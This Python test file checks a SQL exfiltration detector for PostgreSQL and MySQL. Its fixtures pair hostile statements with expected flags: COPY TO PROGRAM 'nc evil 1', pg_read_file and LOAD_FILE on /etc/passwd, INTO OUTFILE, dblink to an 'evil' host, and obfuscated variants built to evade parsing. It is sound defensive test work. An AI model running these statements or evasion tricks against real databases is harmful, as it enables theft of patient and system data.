"""Flags: what a statement is, whatever it is dressed up as."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from exfilguard.events.query import Engine
from exfilguard.observe.classify import Classifier
from exfilguard.observe.mysql.statement import normalise as mysql_normalise
from exfilguard.observe.statement import normalise

POSTGRES = {
    "SELECT id FROM patient": "",
    "COPY patient TO STDOUT": "copy",
    "copy (SELECT * FROM patient WHERE nom <> ' to ') to stdout with csv": "copy",
    "COPY patient TO '/tmp/x'": "copy server_export",
    "COPY patient TO PROGRAM 'nc evil 1'": "copy server_export",
    "COPY t FROM PROGRAM 'id'": "server_export",
    "COPY t FROM STDIN": "",
    "COPY (SELECT 1 FROM x WHERE a = 'to') TO STDOUT": "copy",
    "SELECT lo_export(1, '/tmp/x')": "server_export",
    "SELECT pg_catalog.pg_read_file('/etc/passwd')": "server_export",
    "SELECT \"pg_read_file\"('/x')": "server_export",
    "SELECT/**/pg_read_file/**/('/x')": "server_export",
    "SELECT 'pg_read_file(1)'": "",
    "SELECT pg_read_file FROM t": "",
    "SELECT 1 FROM dblink('host=evil', 'SELECT 1') AS t(a int)": "foreign",
    "SELECT dblink_connect('x')": "foreign",
    "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw": "foreign",
    "CREATE FOREIGN TABLE t (a int) SERVER s": "foreign",
    "CREATE USER MAPPING FOR x SERVER s": "foreign",
    "IMPORT FOREIGN SCHEMA x FROM SERVER s INTO y": "foreign",
    "CREATE EXTENSION IF NOT EXISTS dblink": "foreign",
    "CREATE EXTENSION pg_trgm": "",
    "CREATE FUNCTION f() RETURNS int LANGUAGE 'internal' AS 'be_lo_export'": "server_export",
    "CREATE USER foreign_user": "",
    "CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p": "replication",
    "SELECT pg_create_logical_replication_slot('x', 'pgoutput')": "replication",
    "START_REPLICATION SLOT x LOGICAL 0/0": "replication",
    "SELECT json_agg(p) FROM patient p": "aggregate",
    "SELECT string_agg(nom, ',') FROM patient": "aggregate",
    "SELECT json_agg(s) FROM service s": "",
    "SELECT query_to_xml('SELECT * FROM patient', true, true, '')": "watched_call",
    "SELECT secret_export(1)": "watched_call",
    "SELECT etl_patients()": "watched_call",
    "DO $$ BEGIN PERFORM pg_read_file('/x'); END $$": "server_export",
    "DO $x$ BEGIN EXECUTE 'COPY patient TO ''/tmp/x'''; END $x$": "copy server_export",
    "DO $$ BEGIN COPY patient TO PROGRAM 'x'; END $$": "copy server_export",
    "DO $$ BEGIN IF true THEN COPY patient TO '/tmp/x'; END IF; END $$": "copy server_export",
    "DO $$ BEGIN copy := 1; PERFORM copy FROM t; END $$": "",
    "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT lo_export(1, $$x$$)'": "server_export",
    "SELECT 1; SELECT 2; COPY patient TO STDOUT": "copy",
    'SELECT U&"pg\\005fread_file"(1)': "server_export",
    "SELECT U&\"pg!005fread_file\" /* in */ UESCAPE '!' (1)": "server_export",
    "DO U&'BEGIN PERFORM lo_e\\0078port(1, ''/x''); END'": "server_export",
    "SELECT 1 --\r, lo_export(1, '/x')": "server_export",
    "SELECT E''\n'\\'', lo_export(1, '/x') --'": "server_export",
    "SELECT E'' -- more\n '\\'', lo_export(1, '/x') --'": "server_export",
    "SELECT '' '\\', lo_export(1, '/x') --'": "server_export",
    "SELECT 'a'\n', lo_export(1)'": "",
    "DO 'BEGIN PERFORM lo_ex'\n'port(1, ''/x''); END'": "server_export",
    "SELECT '\\'', lo_export(1, '/x') --'": "server_export",
    "SELECT '\\', lo_export(1, '/x') --'": "server_export",
    "SELECT 'C:\\', 'D:\\'": "",
    "DO $a$ BEGIN EXECUTE $b$DO $c$BEGIN EXECUTE $d$SELECT lo_export(1, '/x')$d$; END$c$$b$; END $a$": "server_export",
    "DO $$ DECLARE q text := 'SELECT lo_export(1, ''/x'')'; BEGIN EXECUTE q; END $$": "server_export",
    "DO LANGUAGE plperl $$ spi_exec_query(\"SELECT lo_export(1, '/x')\"); $$": "server_export",
    "DO $$ DECLARE q text := 'lo_export(1)'; BEGIN RAISE NOTICE '%', q; END $$": "",
    "SELECT query_to_xml('SELECT lo_export(1, ''/x'')', true, true, '')": "server_export watched_call",
    "CREATE OPERATOR =# (leftarg = oid, rightarg = text, function = lo_export)": "server_export",
    "CREATE AGGREGATE a(text) (sfunc = pg_read_file, stype = text)": "server_export",
    "CREATE FUNCTION f(oid, text) RETURNS int LANGUAGE internal AS 'be_lo_export'": "server_export",
    "SELECT u&\"lo!+00005Fexport\"/* x */UESCAPE -- y\n '!' (1, 2)": "server_export",
}
HALF_CHARACTERS = {
    b"SELECT E'\x83\x5c', lo_export(1, '/x') --'": {"server_export"},
    b"SELECT $\x83\x7c$ ' $\x83\x7c$, lo_export(1, '/x') --'": {"server_export"},
    b"SELECT '\x83\x5c', 1": set(),
}
"""In SJIS."""
MYSQL = {
    "SELECT id FROM patient": "",
    "SELECT * FROM patient INTO OUTFILE '/tmp/x'": "server_export",
    "SELECT nom INTO DUMPFILE '/tmp/x' FROM patient": "server_export",
    "SELECT * FROM patient /*!50000 INTO OUTFILE */ '/tmp/x'": "server_export",
    "SELECT ' INTO OUTFILE '": "",
    "SELECT LOAD_FILE('/etc/passwd')": "server_export",
    "SELECT GROUP_CONCAT(id) FROM patient": "aggregate",
    "SELECT GROUP_CONCAT(name) FROM service": "",
    "CREATE TABLE t (a int) ENGINE=FEDERATED CONNECTION='mysql://x'": "foreign",
    "CREATE TABLE t (a int) ENGINE = 'CONNECT'": "foreign",
    "CREATE TABLE t (a int) ENGINE=InnoDB": "",
    "CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST 'x')": "foreign",
    "CHANGE MASTER TO MASTER_HOST='x'": "replication",
    "SHOW BINLOG EVENTS": "replication",
    "CLONE LOCAL DATA DIRECTORY = '/tmp/x'": "replication",
    "CREATE OR REPLACE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST 'x')": "foreign",
    "CREATE OR REPLACE": "",
    "SET SESSION default_storage_engine = 'FEDERATED'": "foreign",
    "SET @@storage_engine=connect": "foreign",
    "SELECT spider_direct_sql('SELECT 1', 't', 'host x')": "foreign",
    "LOAD DATA INFILE '/etc/passwd' INTO TABLE t": "server_export",
    "LOAD DATA LOCAL INFILE 'x' INTO TABLE t": "",
    "BEGIN NOT ATOMIC EXECUTE IMMEDIATE 'SELECT id FROM patient INTO OUTFILE \"/tmp/x\"'; END": "server_export",
    "EXECUTE IMMEDIATE 'SELECT LOAD_FILE(?)' USING '/x'": "server_export",
    "EXECUTE IMMEDIATE 'SELECT ?' USING 1": "",
    "EXECUTE IMMEDIATE CONCAT('SELECT LOAD_', 'FILE(1)')": "watched_call",
    "EXECUTE IMMEDIATE 'SELECT LOAD_' 'FILE(1)'": "watched_call",
    "PREPARE s FROM @text": "watched_call",
    "PREPARE s FROM 'SELECT 1'": "",
    "SELECT a AS prepare FROM t WHERE b = 'x'": "",
    # where the server may read another text than we do
    "SELECT id /*!99999 ' */ FROM patient INTO OUTFILE '/tmp/x'": "server_export",
    "SELECT id FROM patient INTO /*!99999 x */ OUTFILE '/tmp/x'": "server_export",
    "SELECT '\\' INTO OUTFILE '/tmp/x'": "server_export",
    "SELECT 1 AS \"\\\" INTO OUTFILE '/tmp/x'": "server_export",
    "SELECT id FROM patient INTO\u00a0OUTFILE\u00a0'/tmp/x'": "server_export",
    "SELECT t.*, 1 --\u00a0 INTO OUTFILE '/tmp/x' FROM (SELECT 1 AS \u00a0) t": "server_export",
    "SELECT 1 --\x7f ' \n INTO OUTFILE '/tmp/x'": "server_export",
    "CREATE TABLE t (a int) ENGINE /*!99999 x */ = /*!99999 x */ FEDERATED": "foreign",
    "SELECT '\\', secret_export/**/ (1), '": "watched_call",
    "SELECT '\\', etl_all(1), '": "watched_call",
    "SELECT /*!40001 SQL_NO_CACHE */ * FROM patient": "",
    "INSERT INTO note VALUES ('Opéré le 3\\n copy of the letter; connected')": "",
}


@pytest.mark.parametrize("sql", HALF_CHARACTERS)
def test_half_a_character_is_taken_for_what_it_looks_like_and_for_what_it_may_be(sql: bytes) -> None:
    assert set(Classifier("postgresql").flags("", sql, lambda text: False)) == HALF_CHARACTERS[sql]


@pytest.mark.parametrize(
    ("before", "sql"),
    [
        ("SELECT '\\'', lo_export(1, 2) --'", "SELECT 'a', lo_export(1, 2)"),
        ('SELECT U&"now"()', 'SELECT U&"lo\\005fexport"()'),
        ('SELECT "é"()', 'SELECT U&"lo\\005fexport"()'),
        (f'SELECT "{"x" * 64}"()', 'SELECT U&"lo\\005fexport"()'),
        ("DO 5", "DO 'BEGIN PERFORM lo_export(1, $$x$$); END'"),
        ("DO é", "DO $$BEGIN PERFORM lo_export(1, 'x'); END$$"),
        ("CREATE FUNCTION f() RETURNS int AS $1", "CREATE FUNCTION f() RETURNS int AS 'SELECT lo_export(1, $$x$$)'"),
        ("ALTER ROLE x SET a = 5", "ALTER ROLE x SET a = 'SELECT lo_export(1, 2)'"),
    ],
)
def test_a_shape_that_two_texts_share_by_mistake_hides_none(before: str, sql: str) -> None:
    classifier = Classifier("postgresql")
    for backslashes in (False, True):
        fingerprint, _ = normalise(before, backslashes)
        classifier.flags(fingerprint, before.encode(), lambda text: False)
        assert set(classifier.flags(normalise(sql)[0], sql.encode(), lambda text: False)) == {"server_export"}


def check(engine: Engine, sql: str, expected: str) -> None:
    classifier = Classifier(engine, ["secret_export", "etl_*"])
    fingerprint, _ = (mysql_normalise if engine == "mysql" else normalise)(sql)
    for _ in range(2):  # once fresh, once as it is remembered
        found = classifier.flags(fingerprint, sql.encode(), lambda text: b"patient" in text)
        assert set(found) == set(expected.split()), sql


@pytest.mark.parametrize("sql", POSTGRES)
def test_postgres(sql: str) -> None:
    check("postgresql", sql, POSTGRES[sql])


@pytest.mark.parametrize("sql", MYSQL)
def test_mysql(sql: str) -> None:
    check("mysql", sql, MYSQL[sql])


def test_a_shape_of_another_reading_vouches_for_nobody() -> None:
    """A session with NO_BACKSLASH_ESCAPES could have made an export's shape known as harmless."""
    classifier = Classifier("mysql")
    for sql, backslashes, expected in (
        ("SELECT '\\', load_file(1), 'x'", False, ("server_export",)),
        ("SELECT '', load_file(1), 'x'", True, ("server_export",)),
    ):
        fingerprint, _ = mysql_normalise(sql, backslashes)
        assert classifier.flags(fingerprint, sql.encode(), lambda text: False) == expected


def test_what_only_a_literal_tells_is_not_remembered() -> None:
    """Two DO blocks have one shape: an innocent one must not vouch for the other."""
    classifier = Classifier("postgresql")
    for sql, expected in (
        ("DO 'BEGIN NULL; END'", ()),
        ("DO 'BEGIN PERFORM lo_export(1, $$x$$); END'", ("server_export",)),
    ):
        fingerprint, _ = normalise(sql)
        assert classifier.flags(fingerprint, sql.encode(), lambda text: False) == expected


@pytest.mark.parametrize(
    ("engine", "before", "sql", "expected"),
    [
        ("postgresql", "COPY t TO 5", "COPY t TO '/tmp/x'", "copy server_export"),
        ("postgresql", "COPY t TO é", "COPY t TO $$/tmp/x$$", "copy server_export"),
        ("mysql", "SET storage_engine = 'innodb'", "SET storage_engine = 'federated'", "foreign"),
        ("mysql", "CREATE PROCEDURE p() 5", "CREATE PROCEDURE p() 'SELECT 1 INTO OUTFILE \"a\"'", "server_export"),
        ("mysql", "PREPARE s FROM 5", "PREPARE s FROM 'SELECT load_file(1)'", "server_export"),
    ],
)
def test_what_a_literals_kind_tells_is_not_remembered(engine: Engine, before: str, sql: str, expected: str) -> None:
    classifier = Classifier(engine)
    for text in (before, sql):
        fingerprint, _ = (mysql_normalise if engine == "mysql" else normalise)(text)
        found = classifier.flags(fingerprint, text.encode(), lambda text: False)
    assert set(found) == set(expected.split())


def test_a_name_in_code_points_vouches_for_no_other() -> None:
    classifier = Classifier("postgresql")
    for sql, expected in (('SELECT U&"lo\\005fputs"(1)', False), ('SELECT U&"lo\\005fexport"(1)', True)):
        fingerprint, _ = normalise(sql)
        assert ("server_export" in classifier.flags(fingerprint, sql.encode(), lambda text: False)) is expected


def test_a_statement_too_long_to_be_read_is_flagged() -> None:
    """And by its words: what is denied is not let pass by what stands before it."""
    for last, expected in {
        "pg_read_file('x')": "server_export", 'U&"lo\\005fexport"(1)': "server_export", "1 FROM dblink('x', 'y')": "foreign", "b; COPY t TO PROGRAM 'x'": "copy server_export",
        "b; /**/ COPY t TO '/tmp/x'": "copy server_export", "json_agg(p) FROM patient p": "aggregate",
        "b; DO $$BEGIN COPY t TO PROGRAM 'x'; END$$": "copy server_export", "'Madame,\nCopy of the letter from Dr. M.'": "",
    }.items():  # fmt: skip
        sql = "SELECT " + "a," * 30_000 + last
        found = Classifier("postgresql").flags("", sql.encode(), lambda text: True)
        assert sorted(found) == sorted([*expected.split(), "watched_call"]), last


def test_a_long_statement_without_any_of_the_words_has_no_flags() -> None:
    """And is not said to be too long to be read: a thousand rows to insert are nobody's finding."""
    rows = ", ".join(f"({n}, 'Chère consœur,\nmerci de m''avoir adressé ce malade', 'a;b')" for n in range(20_000))
    for engine in ENGINES:
        found = Classifier(engine).flags("", f"INSERT INTO lettre VALUES {rows}".encode(), lambda text: True)
        assert found == ()


WORDS = st.sampled_from(
    [
        *(list(POSTGRES) + list(MYSQL)),
        *("do ", "create ", "ALTER ", "prepare x as ", "execute ", "import ", "start ", "change ", "show ", "copy ", " to ", " from "),
        *("server ", "foreign ", "mapping ", "user ", "publication ", "engine=", "spider", "'s3'", "master ", "binlog ", "outfile "),
        *("into ", "lo_export(", "lo_", "export(", "dblink", "etl_x(", "secret_export (", "json_agg(", "dumpfile", "extension "),
        *("language ", "internal ", "operator ", "crosstab(", "query_to_xml(", "\n", "\r", "'\n'", " uescape '!'", "!006c", "aggregate ", "é["),
        *("load data ", "infile ", "immediate ", "@v ", "set ", "storage_engine=", "clone ", "instance ", "relaylog ", "replace ", "execute("),
        *(" ", ";", "'", "''", '"', "`", "\\", "\\'", "(", ")", "--", "\n", "/*", "*/", "/*!", "$$", "$a$", "e'", "u&'", 'U&"', "#", "x"),
    ]
)  # fmt: skip
ENGINES: tuple[Engine, ...] = ("postgresql", "mysql")


@given(st.sampled_from(ENGINES), st.lists(WORDS, max_size=12).map("".join), st.booleans())
@example("postgresql", "DO E'\\x6co_export(1)'", False)
@example("postgresql", "DO 'lo_'\n'export(1)'", False)
@example("mysql", "CREATE TABLE t (a int) ENGINE='CONN\\ECT'", False)
@example("postgresql", '"\\', True)
@settings(max_examples=3_000, deadline=None)
def test_a_text_that_is_not_read_has_nothing_to_flag(engine: Engine, sql: str, halves: bool) -> None:
    classifier = Classifier(engine, ["secret_export", "etl_*"])
    if classifier._harmless(sql.encode()):
        assert classifier._classify(sql, True, halves=halves)[0] == ()


@pytest.mark.parametrize("engine", ["postgresql", "mysql"])
def test_in_a_piece_of_a_statement_only_words_count(engine: Engine) -> None:
    """A document in base64 that had `dblink` somewhere ended its session."""
    classifier = Classifier(engine, ["secret_export", "etl*"])
    for piece, expected in {
        "dGhpc2RibGluaw/dblinkQ9secret_exportx+load_fileX": "",
        "x, dblink_exec('": "foreign", "x,dblink(": "foreign", "a/**/LOAD_FILE('x')": "server_export", "\ufffdload_file": "server_export",
        "pg_logical_slot_get_changes(": "replication", "SELECT secret_export (": "watched_call", "etlpatients(": "watched_call",
        "json_agg": "aggregate",
    }.items():  # fmt: skip
        assert classifier.words(piece.encode()) == tuple(expected.split()), piece


def test_the_memory_is_bounded() -> None:
    classifier = Classifier("postgresql")
    for number in range(25_000):
        classifier.flags(str(number), b"SELECT 1", lambda text: False)
    assert len(classifier._known) <= 10_000
